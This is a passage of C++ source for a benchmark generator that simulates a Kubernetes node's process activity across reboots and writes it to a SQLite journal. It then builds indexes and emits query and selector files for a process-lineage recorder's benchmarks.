        row.time_ns = static_cast<int64_t>(t);
        row.tgid = p->tgid;
        row.nspid = p->nspid;
        row.ppid = p->parent && p->parent->alive ? p->parent->tgid : (p->tgid == 1 ? 0 : 1);
        row.start_ns = p->start_ns / (10 * kMs) * (10 * kMs);  // /proc's clock ticks
        row.uid = row.gid = row.euid = p->uid;
        row.comm = p->comm;
        row.exe = p->binary;
        row.argv = p->argv;
        row.cgroup_path = c.cgroup_path;
        row.nodename = c.nodename;
        before_row(t);
        if (writer_) check(writer_->add_snapshot(row, c.pod_uid));
        ++stats.snapshot;
        if (c.pod >= 0) snapshot_pods.push_back(c.pod);
    }
    // After the snapshot, in UID order, as the recorder's end_snapshot().
    std::sort(snapshot_pods.begin(), snapshot_pods.end(),
              [&](int a, int b) { return pods_[static_cast<size_t>(a)].uid < pods_[static_cast<size_t>(b)].uid; });
    for (int pod : snapshot_pods) name_pod(pod);
}

void Generator::start_boot(int boot) {
    boot_ = boot;
    const uint64_t span = static_cast<uint64_t>(o_.days) * kDay;
    boot_year_ns_ = span / kBoots * static_cast<uint64_t>(boot);
    boot_len_ = span / kBoots - 3 * kMin;  // and a few minutes down for the reboot
    boot_id_ = rng_.uuid();
    drift_phase_ = rng_.real() * 6.28;
    ntp_step_ns_ = static_cast<int64_t>(rng_.between(0, 40 * kMs)) - static_cast<int64_t>(20 * kMs);
    pid_used_.assign(kPidMax, 0);
    live_.clear();
    last_pid_ = 1;
    for (auto& p : pods_) {
        p.alive = false;
        p.shim.reset();
        p.forever.clear();
    }
    // pid 1 and the daemons, before any recorder.
    init_ = std::make_shared<Proc>();
    init_->tgid = 1;
    init_->nspid = 1;
    init_->start_ns = 90 * kMs;
    init_->binary = "/usr/lib/systemd/systemd";
    init_->argv = argv_of({"/sbin/init"});
    init_->comm = "systemd";
    init_->ctx = ctx_init_;
    pid_used_[1] = 1;
    live_[1] = init_;
    last_pid_ = 250;  // kernel threads took the first few hundred
    auto daemon = [&](uint64_t at, int ctx, const std::string& binary, std::vector<std::string> args) {
        auto p = std::make_shared<Proc>();
        p->tgid = alloc_pid();
        p->nspid = p->tgid;
        p->start_ns = at;
        p->parent = init_;
        p->binary = binary;
        args.insert(args.begin(), binary);
        p->argv = argv_of(args);
        p->comm = comm_of(binary);
        p->ctx = ctx;
        live_[p->tgid] = p;
        return p;
    };
    daemon(2 * kSec, ctx_system_, "/usr/lib/systemd/systemd-journald", {});
    daemon(2 * kSec + 40 * kMs, ctx_system_, "/usr/lib/systemd/systemd-udevd", {});
    daemon(3 * kSec, ctx_system_, "/usr/sbin/sshd", {"-D"});
    cron_ = daemon(3 * kSec + 200 * kMs, ctx_cron_, "/usr/sbin/cron", {"-f"});
    containerd_ = daemon(4 * kSec, ctx_containerd_, "/usr/bin/containerd", {});
    kubelet_ = daemon(
        5 * kSec, ctx_kubelet_, "/usr/bin/kubelet",
        {"--config=/var/lib/kubelet/config.yaml", "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
         "--kubeconfig=/etc/kubernetes/kubelet.conf", "--node-ip=10.20.31.47"});

    // The recorder: started 30 s after boot, restarted mid-quarter.
    uint64_t mid = boot_len_ / 2 + rng_.below(boot_len_ / 4);
    push(30 * kSec, Act::run_start);
    push(mid, Act::run_stop, nullptr, boot % 2 == 1 ? 1 : 0);  // a=1: killed, no stop row
    push(mid + 20 * kSec, Act::run_start);
    push(boot_len_ - 60 * kSec, Act::run_stop);
    for (uint64_t t = 90 * kSec; t < boot_len_; t += 60 * kSec) push(t, Act::clock);
    for (int i = 0; i < 3; ++i) push(rng_.between(kHour, boot_len_ - kHour), Act::loss);
    push(60 * kSec, Act::host_tick, nullptr, 0);
    for (int i = 0; i < static_cast<int>(pods_.size()); ++i) {
        const Pod& p = pods_[static_cast<size_t>(i)];
        uint64_t end = boot_year_ns_ + boot_len_;
        if (p.depart <= boot_year_ns_ || p.arrive >= end) continue;
        uint64_t start = p.arrive > boot_year_ns_ ? p.arrive - boot_year_ns_ : 40 * kSec + rng_.below(60 * kSec);
        push(std::max<uint64_t>(start, 40 * kSec), Act::pod_start, nullptr, i);
        if (p.depart < end) push(p.depart - boot_year_ns_, Act::pod_end, nullptr, i);
    }
}

void Generator::run() {
    ctx_init_ = new_context("/init.scope", node_, -1, false);
    ctx_system_ = new_context("/system.slice", node_, -1, false);
    ctx_containerd_ = new_context("/system.slice/containerd.service", node_, -1, false);
    ctx_kubelet_ = new_context("/system.slice/kubelet.service", node_, -1, false);
    ctx_cron_ = new_context("/system.slice/cron.service", node_, -1, false);
    make_pods();
    pod_named_.assign(pods_.size(), false);
    for (int boot = 0; boot < kBoots; ++boot) {
        start_boot(boot);
        while (!heap_.empty()) {
            Action x = heap_.top();
            heap_.pop();
            if (x.t >= boot_len_) continue;  // the reboot ends everything
            if (boot == kBoots / 2 && picks.t_wall == 0 && x.t >= boot_len_ / 5) picks.t_wall = wall(boot_len_ / 5);
            switch (x.kind) {
                case Act::spawn:
                    do_spawn(x);
                    break;
                case Act::exec:
                    do_exec(x);
                    break;
                case Act::exit:
                    if (x.proc) {
                        // Ended with its pod: b is the signal (0: exited).
                        do_exit(x.proc, 0, x.b, x.t, true);
                    } else {
                        Node& n = x.act->nodes[static_cast<size_t>(x.a)];
                        if (!n.skipped) do_exit(n.proc, n.code, n.sig, x.t, x.act->fixed);
                    }
                    break;
                case Act::connect:
                    do_connect(x);
                    break;
                case Act::pod_start:
                    pod_start(x.a, x.t);
                    break;
                case Act::pod_tick:
                    pod_tick(x.a, x.b, x.t);
                    break;
                case Act::pod_end:
                    pod_end(x.a, x.t);
                    break;
                case Act::host_tick:
                    host_tick(x.a, x.t);
                    break;
                case Act::clock:
                    if (recording_) {
                        ++stats.clock;
                        // The recorder's policy (Recorder::note_clock):
                        // a sample when the offset moved > 1 ms, or hourly.
                        int64_t offset = wall(x.t) - static_cast<int64_t>(x.t);
                        if (writer_ && (last_clock_t_ == 0 || std::llabs(offset - last_clock_offset_) > 1'000'000 ||
                                        x.t - last_clock_t_ >= 3'600 * kSec)) {
                            pending_clock_.emplace_back(x.t, wall(x.t));
                            last_clock_t_ = x.t;
                            last_clock_offset_ = offset;
                        }
                    }
                    break;
                case Act::loss:
                    if (recording_) {
                        before_row(x.t);
                        if (writer_) {
                            check(writer_->add_loss(static_cast<int64_t>(x.t - 250 * kMs), static_cast<int64_t>(x.t),
                                                    static_cast<int64_t>(rng_.between(5, 800)), "ringbuf_full"));
                        }
                        after_row();
                        ++stats.losses;
                    }
                    break;
                case Act::run_start: {
                    recording_ = true;
                    ++stats.runs;
                    run_events_ = 0;
                    pod_named_.assign(pods_.size(), false);
                    // A new run names its cgroups again, and tracks the
                    // pods' processes from its own rows.
                    cgroup_written_.assign(contexts_.size(), false);
                    members_.assign(pods_.size(), PodMembers{});
                    if (writer_) {
                        if (batch_open_) {
                            check(writer_->commit(static_cast<int64_t>(x.t)));
                            batch_open_ = false;
                        }
                        RunInfo info;
                        info.boot_id = boot_id_;
                        info.node = node_;
                        info.started_ns = static_cast<int64_t>(x.t);
                        info.started_wall_ns = wall(x.t);
                        info.version = "0.1.0";
                        info.kernel = "6.1.0-27-cloud-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1 (2024-11-01)";
                        info.hooks =
                            "tp_btf/sched_process_fork,tp_btf/sched_process_exec,tp_btf/sched_process_exit,"
                            "tp_btf/inet_sock_set_state,tp_btf/cgroup_attach_task,tp_btf/cgroup_transfer_tasks";
                        info.argv_cap = 4096;
                        info.clk_tck = 100;
                        info.recorder_pid = 0;
                        auto run = writer_->begin_run(info);
                        if (!run) die(run.error().message);
                    }
                    write_snapshot(x.t + 40 * kMs);
                    if (writer_ && batch_open_) {
                        check(writer_->commit(static_cast<int64_t>(x.t + 60 * kMs)));
                        ++stats.batches;
                        batch_open_ = false;
                    }
                    break;
                }
                case Act::run_stop:
                    if (writer_) {
                        after_row();
                        if (batch_open_) {
                            check(writer_->commit(static_cast<int64_t>(x.t)));
                            ++stats.batches;
                            batch_open_ = false;
                        }
                        if (x.a == 0) {
                            check(writer_->end_run(static_cast<int64_t>(x.t), wall(x.t), "signal",
                                                   static_cast<int64_t>(run_events_), 0));
                        }
                    }
                    recording_ = false;
                    break;
            }
        }
    }
}

// The schema's statements, split by SQLite itself; CREATE INDEX ones apart.
void split_schema(std::vector<std::string>* tables, std::vector<std::string>* indexes) {
    auto db = Database::open_write(":memory:");
    if (!db) die("sqlite: " + db.error().message);
    const char* sql = journal_schema_sql();
    while (sql && *sql) {
        sqlite3_stmt* raw = nullptr;
        const char* tail = nullptr;
        if (sqlite3_prepare_v2(db->get(), sql, -1, &raw, &tail) != SQLITE_OK) die("schema: " + db->errmsg());
        if (raw) {
            std::string text = sqlite3_sql(raw);
            sqlite3_finalize(raw);
            std::string head = text.substr(text.find_first_not_of(" \t\n"), 12);
            for (char& c : head) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
            (head.rfind("CREATE INDEX", 0) == 0 ? indexes : tables)->push_back(text);
            // Later statements may depend on earlier ones (none do today).
            if (auto st = db->exec(text); !st) die("schema: " + st.error().message);
        }
        sql = tail;
    }
}

GenOptions parse_args(int argc, char** argv) {
    GenOptions o;
    for (int i = 1; i < argc; ++i) {
        std::string a = argv[i];
        auto value = [&]() -> std::string {
            if (i + 1 >= argc) die(a + " needs a value");
            return argv[++i];
        };
        if (a == "--version") {
            fmt::print("{}\n", kGeneratorVersion);
            std::exit(0);
        } else if (a == "--out") {
            o.out = value();
        } else if (a == "--events") {
            o.events = std::strtoull(value().c_str(), nullptr, 10);
        } else if (a == "--pods") {
            o.pods = std::atoi(value().c_str());
        } else if (a == "--days") {
            o.days = std::atoi(value().c_str());
        } else if (a == "--seed") {
            o.seed = std::strtoull(value().c_str(), nullptr, 10);
        } else if (a == "--queries") {
            o.queries = std::atoi(value().c_str());
        } else if (a == "--queries-out") {
            o.queries_out = value();
        } else if (a == "--selectors-out") {
            o.selectors_out = value();
        } else if (a == "--dry-run") {
            o.dry_run = true;
        } else {
            die("usage: bench_gen_journal --out PATH [--events N] [--pods P] [--days D] [--seed S] "
                "[--queries Q --queries-out FILE] [--selectors-out FILE] [--dry-run] | --version");
        }
    }
    if (o.out.empty() && !o.dry_run) die("--out is required");
    if (o.pods < 1 || o.days < 1 || o.events < 1000) die("--pods >= 1, --days >= 1, --events >= 1000");
    return o;
}

double seconds_since(std::chrono::steady_clock::time_point t0) {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

}  // namespace

}  // namespace lineage::bench

int main(int argc, char** argv) {
    using namespace lineage;
    using namespace lineage::bench;
    GenOptions o = parse_args(argc, argv);
    auto t0 = std::chrono::steady_clock::now();

    // Calibration: a dry pass at scale 1 splits the events into the pod
    // lifecycle (fixed) and the periodic activities (scaled).
    double scale = 1.0;
    {
        Generator dry(o, 1.0, nullptr);
        dry.run();
        double variable = static_cast<double>(dry.events() - dry.fixed_events());
        double want = static_cast<double>(o.events) - static_cast<double>(dry.fixed_events());
        if (variable > 0 && want > 0) scale = want / variable;
        // The lifecycle alone (the node-health loop's year of forks, in a
        // small journal) is more than asked for: the activities as rare as
        // the generator allows, and the journal larger than asked.
        if (variable > 0 && want <= 0) {
            scale = kMinScale;
            fmt::print(stderr, "bench_gen_journal: the pod lifecycle alone is {} events, more than the {} asked for\n",
                       dry.fixed_events(), o.events);
        }
        fmt::print(stderr,
                   "bench_gen_journal: calibration: {} events at scale 1 ({} lifecycle), scale {:.4f} ({:.1f}s)\n",
                   dry.events(), dry.fixed_events(), scale, seconds_since(t0));
    }
    if (o.dry_run) {
        Generator dry(o, scale, nullptr);
        dry.run();
        fmt::print("events={} processes={} scale={:.4f}\n", dry.events(), dry.stats.processes, scale);
        return 0;
    }

    // The indexes are built after the rows (see the header comment). The
    // writer appends only to a journal with the whole schema: it opens the
    // journal as created, and the indexes are dropped behind it.
    const std::string tmp = o.out + ".partial";
    for (const char* suffix : {"", "-wal", "-shm"}) ::unlink((tmp + suffix).c_str());
    std::vector<std::string> tables, indexes;
    split_schema(&tables, &indexes);
    auto writer = JournalWriter::open(tmp);
    if (!writer) die(writer.error().message);
    {
        auto db = Database::open_write(tmp);
        if (!db) die(tmp + ": " + db.error().message);
        std::string script = "BEGIN;";
        for (const auto& s : indexes) {
            // "CREATE INDEX name ON ...": the statement begins with it.
            const size_t at = s.find("CREATE INDEX ") + 13;
            script += "DROP INDEX " + s.substr(at, s.find(' ', at) - at) + ";";
        }
        script += "COMMIT;";
        if (auto st = db->exec(script); !st) die(tmp + ": dropping the indexes: " + st.error().message);
    }
    Generator gen(o, scale, &*writer);
    gen.run();
    double rows_s = seconds_since(t0);
    writer = Error{"closed"};  // closes the journal (and checkpoints the WAL)

    auto t1 = std::chrono::steady_clock::now();
    {
        auto db = Database::open_write(tmp);
        if (!db) die(tmp + ": " + db.error().message);
        std::string script = "PRAGMA cache_size=-262144; BEGIN;";
        for (const auto& s : indexes) script += s + ";\n";
        script += "COMMIT; PRAGMA wal_checkpoint(TRUNCATE);";
        if (auto st = db->exec(script); !st) die(tmp + ": indexes: " + st.error().message);
    }
    double index_s = seconds_since(t1);
    for (const char* suffix : {"-wal", "-shm"}) ::unlink((tmp + suffix).c_str());
    if (std::rename(tmp.c_str(), o.out.c_str()) != 0) die(o.out + ": cannot rename into place");

    // Queries: one window per pod, around a recorded activity of that pod.
    if (!o.queries_out.empty()) {
        std::vector<int> candidates;
        for (int i = 0; i < static_cast<int>(gen.pods().size()); ++i) {
            if (gen.pods()[static_cast<size_t>(i)].samples > 0) candidates.push_back(i);
        }
        Rng pick(o.seed ^ 0x9e3779b97f4a7c15ull);
        for (size_t i = candidates.size(); i > 1; --i) std::swap(candidates[i - 1], candidates[pick.below(i)]);
        // The node-health pod first: its year of forks is what a window's
        // query must not read.
        std::stable_partition(candidates.begin(), candidates.end(),
                              [&](int i) { return gen.pods()[static_cast<size_t>(i)].kind == PodKind::daemon; });
        std::ofstream q(o.queries_out);
        for (int i = 0; i < o.queries && i < static_cast<int>(candidates.size()); ++i) {
            const Pod& p = gen.pods()[static_cast<size_t>(candidates[static_cast<size_t>(i)])];
            int64_t since = p.sample_wall_ns / 1'000'000'000 - 120;
            q << fmt::format("{}/{}\t@{}\t@{}\t{}\n", p.ns, p.name, since, since + 600, kind_name(p.kind));
        }
        if (!q) die(o.queries_out + ": cannot write");
    }

    if (!o.selectors_out.empty()) {
        const auto& k = gen.picks;
        const auto secs = [](int64_t wall_ns) { return wall_ns / 1'000'000'000; };
        std::string rare, common;
        int64_t rare_wall = 0;
        uint64_t common_execs = 0, sh_execs = 0;
        for (const auto& [base, cw] : k.bases) {
            const auto& [count, last] = cw;
            if (base == "sh") sh_execs = count;
            if (count == 1 && (rare.empty() || std::llabs(last - k.t_wall) < std::llabs(rare_wall - k.t_wall) ||
                               (std::llabs(last - k.t_wall) == std::llabs(rare_wall - k.t_wall) && base < rare))) {
                rare = base;
                rare_wall = last;
            }
            if (base != "sh" && (count > common_execs || (count == common_execs && base < common))) {
                common = base;
                common_execs = count;
            }
        }
        std::string ns;
        for (const auto& p : gen.pods()) {
            if (p.kind == PodKind::daemon) ns = p.ns;
        }
        std::ofstream q(o.selectors_out);
        q << fmt::format("t=@{}\nnamespace={}\n", secs(k.t_wall), ns);
        q << fmt::format("rare_binary={}\nrare_binary_t=@{}\n", rare, secs(rare_wall));
        q << fmt::format("common_binary={}\ncommon_binary_execs={}\nsh_execs={}\n", common, common_execs, sh_execs);
        q << fmt::format("pid={}\npid_t=@{}\npid_binary={}\n", k.pid, secs(k.pid_wall),
                         k.pid_is_make ? "make" : "other");
        std::string rare_name, common_name;
        int64_t rare_name_wall = 0;
        uint64_t common_lookups = 0;
        for (const auto& [name, cw] : k.names) {
            const auto& [count, last] = cw;
            if (count == 1 &&
                (rare_name.empty() || std::llabs(last - k.t_wall) < std::llabs(rare_name_wall - k.t_wall) ||
                 (std::llabs(last - k.t_wall) == std::llabs(rare_name_wall - k.t_wall) && name < rare_name))) {
                rare_name = name;
                rare_name_wall = last;
            }
            if (count > common_lookups || (count == common_lookups && name < common_name)) {
                common_name = name;
                common_lookups = count;
            }
        }
        q << fmt::format("rare_name={}\nrare_name_t=@{}\ncommon_name={}\ncommon_name_lookups={}\n", rare_name,
                         secs(rare_name_wall), common_name, common_lookups);
        q << "name_suffix=*.svc.cluster.local\n";
        if (!q) die(o.selectors_out + ": cannot write");
    }

    struct stat st {};
    stat(o.out.c_str(), &st);
    const auto& s = gen.stats;
    fmt::print(
        "events={} forks={} execs={} exits={} connects={} dns_rows={} processes={} pods={} runs={} batches={} "
        "snapshot_rows={} "
        "clock_samples={} pods_rows={} loss_rows={} membership_rows={} cgroups_rows={} pid_wraps={} max_depth={} "
        "scale={:.4f} file_bytes={} rows_s={:.1f} index_s={:.1f} total_s={:.1f} generator_version={}\n",
        gen.events(), s.forks, s.execs, s.exits, s.connects, s.dns_rows, s.processes, gen.pods().size(), s.runs,
        s.batches, s.snapshot, s.clock, s.pods_rows, s.losses, s.membership_rows, s.cgroups_rows, s.pid_wraps,
        s.max_depth, scale, static_cast<long long>(st.st_size), rows_s, index_s, seconds_since(t0), kGeneratorVersion);
    return 0;
}
